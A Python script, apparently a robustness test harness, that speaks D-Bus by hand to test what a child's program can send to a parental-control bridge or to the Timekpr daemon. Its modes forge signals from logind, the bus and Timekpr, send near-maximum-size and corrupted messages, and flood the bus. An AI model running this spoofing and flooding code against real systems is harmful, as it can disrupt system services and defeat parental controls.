"""What a child's own program can send on a PC's system bus, straight to the bridge's connection there or to Timekpr.

  child.py WHAT

Goes on until it is ended, and writes a line after each round. Speaks D-Bus by hand on the bus's socket, as no library
lets one send all of this.

  forged     signals in the name of the bus, of logind and of Timekpr
  huge       signals just below the 32 MiB that the bus takes
  malformed  what is no D-Bus: each time the bus throws the sender out, and he comes back
  many       small signals, calls, forged answers and headers of 60 kB as fast as the bus takes them
  asking     Timekpr's two calls that are open to everybody, which make it send signals to all who listen
  listen     nothing: every signal that arrives is written down
"""

import os
import random
import socket
import struct
import sys
import time

BUS = "org.freedesktop.DBus"
TIMEKPR = "com.timekpr.server"
BRIDGE_UID = 900
CALL, ANSWER, ERROR, SIGNAL = 1, 2, 3, 4
NO_REPLY = 1
FIELDS = {"path": (1, "o"), "iface": (2, "s"), "member": (3, "s"), "error": (4, "s"), "reply": (5, "u"), "to": (6, "s"),
          "sender": (7, "s"), "signature": (8, "g")}


def pad(data, to):
    return data + b"\0" * (-len(data) % to)


def text(value):
    value = value.encode()
    return struct.pack("<I", len(value)) + value + b"\0"


def message(kind, serial, signature="", body=b"", flags=0, **fields):
    if signature:
        fields["signature"] = signature
    out = b""
    for name, value in fields.items():
        code, sort = FIELDS[name]
        out = pad(out, 8) + bytes([code, 1]) + sort.encode() + b"\0"
        if sort == "g":
            out += bytes([len(value)]) + value.encode() + b"\0"
        elif sort == "u":
            out = pad(out, 4) + struct.pack("<I", value)
        else:
            out = pad(out, 4) + text(value)
    head = struct.pack("<cBBBIII", b"l", kind, flags, 1, len(body), serial, len(out))
    return pad(head + out, 8) + body


class Bus:
    def __init__(self):
        self.serial, self.buffer = 0, b""
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect("/run/dbus/system_bus_socket")
        self.socket.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        while b"\r\n" not in self.buffer:
            self.buffer += self.socket.recv(4096)
        self.buffer = b""
        self.socket.sendall(b"BEGIN\r\n")
        self.name = self.string(self.ask("Hello"))

    def next(self):
        self.serial += 1
        return self.serial

    def send(self, kind, *body, **fields):
        self.socket.sendall(message(kind, self.next(), *body, **fields))

    def receive(self):
        """The next message: its kind, its header fields and its body."""
        def more(length):
            while len(self.buffer) < length:
                got = self.socket.recv(1 << 16)
                if not got:
                    raise ConnectionError("thrown out")
                self.buffer += got
        more(16)
        _, kind, _, _, length, _, fields = struct.unpack("<cBBBIII", self.buffer[:16])
        start = 16 + fields + -fields % 8
        more(start + length)
        head, body, self.buffer = self.buffer[16:16 + fields], self.buffer[start:start + length], self.buffer[start + length:]
        return kind, self.fields(head), body

    @staticmethod
    def fields(head):
        found, at = {}, 0
        while at < len(head):
            at += -at % 8
            code, sort = head[at], chr(head[at + 2])
            at += 4
            if sort == "g":
                found[code] = head[at + 1:at + 1 + head[at]].decode()
                at += head[at] + 2
            else:
                number = struct.unpack_from("<I", head, at)[0]
                found[code] = number if sort == "u" else head[at + 4:at + 4 + number].decode()
                at += 4 + (0 if sort == "u" else number + 1)
        return found

    def ask(self, member, *body):
        self.send(CALL, *body, path="/org/freedesktop/DBus", iface=BUS, member=member, to=BUS)
        serial = self.serial
        while True:
            kind, fields, answer = self.receive()
            if kind in (ANSWER, ERROR) and fields.get(5) == serial:
                return answer if kind == ANSWER else b""

    @staticmethod
    def string(body, at=0):
        length = struct.unpack_from("<I", body, at)[0]
        return body[at + 4:at + 4 + length].decode()

    def bridges(self):
        """The unique names of the account that the bridge logs in to: nobody hides them."""
        body, at, names = self.ask("ListNames"), 4, []
        while at < len(body):
            at += -at % 4
            names.append(self.string(body, at))
            at += 4 + len(names[-1].encode()) + 1
        return [name for name in names if name.startswith(":") and self.uid(name) == BRIDGE_UID]

    def uid(self, name):
        answer = self.ask("GetConnectionUnixUser", "s", text(name))
        return struct.unpack("<I", answer)[0] if answer else -1


def forged(bus, to):
    left = pad(text("LEFT"), 4) + struct.pack("<i", 0)
    left = pad(pad(text("critical"), 4) + struct.pack("<I", len(left)), 8) + left
    for _ in range(20):
        bus.send(SIGNAL, "sss", pad(pad(text(TIMEKPR), 4) + text(":1.0"), 4) + text(""), path="/org/freedesktop/DBus",
                 iface=BUS, member="NameOwnerChanged", to=to, sender=BUS)
        bus.send(SIGNAL, "b", struct.pack("<I", 1), path="/org/freedesktop/login1", sender="org.freedesktop.login1",
                 iface="org.freedesktop.login1.Manager", member="PrepareForShutdown", to=to)
        bus.send(SIGNAL, "uo", struct.pack("<I", 1000) + text("/org/freedesktop/login1/user/_1000"), to=to,
                 path="/org/freedesktop/login1", iface="org.freedesktop.login1.Manager", member="UserRemoved")
        for member in "timeLeft", "timeLimits", "timeLeftChangedNotification":
            bus.send(SIGNAL, "sa{si}", left, iface=TIMEKPR + ".user.notifications",
                     path="/com/timekpr/server/user/anna", member=member, to=to, sender=TIMEKPR)
    time.sleep(0.01)


def huge(bus, to):
    bus.send(SIGNAL, "s", text("x" * ((32 << 20) - 256)), path="/p", iface="i.f", member="huge", to=to)


def malformed(bus, to):
    good = message(SIGNAL, 99, "sa{sv}", text("x") + struct.pack("<I", 0), path="/p", iface="i.f", member="m", to=to)
    bad = bytearray(good)
    for _ in range(random.randrange(1, 6)):
        bad[random.randrange(len(bad))] = random.randrange(256)
    bus.socket.settimeout(0.2)    # it may wait for the rest of what is longer now
    bus.socket.sendall(bytes(bad))
    bus.ask("GetId")


def many(bus, to):
    small = message(SIGNAL, 7, "s", text("x"), path="/p", iface="i.f", member="small", to=to)
    call = message(CALL, 7, flags=NO_REPLY, path="/p", iface="i.f", member="call", to=to)
    answer = message(ANSWER, 7, reply=random.randrange(1, 99), to=to)
    failure = message(ERROR, 7, reply=random.randrange(1, 99), error="a.b", to=to)
    long = message(SIGNAL, 7, path="/a" * 30000, iface="i.f", member="long", to=to)
    bus.socket.sendall(small * 200 + call * 20 + answer + failure + long * 4)


def asking(bus, _):
    for member in "requestTimeLimits", "requestTimeLeft":
        bus.socket.sendall(message(CALL, 7, "s", text("anna"), NO_REPLY, path="/com/timekpr/server",
                                   iface=TIMEKPR + ".user.limits", member=member, to=TIMEKPR) * 10)
    time.sleep(0.02)    # it keeps what it has not done yet, also when this program has ended


def listen():
    bus = Bus()
    bus.ask("AddMatch", "s", text("type='signal'"))
    print("named", bus.name, flush=True)
    while True:
        kind, fields, _ = bus.receive()
        print(kind, fields.get(3, ""), "from", fields.get(7, ""), flush=True)


def main(what):
    if what == "listen":
        listen()
    attack, rounds, bus, names = globals()[what], 0, Bus(), []
    random.seed(7)
    while True:
        try:
            if rounds % 50 == 0 or not names:
                names = bus.bridges()
            for name in names:
                attack(bus, name)
            if not names:
                time.sleep(0.1)
                continue
        except OSError:
            bus = Bus()
        rounds += 1
        print(rounds, flush=True)


main(sys.argv[1])
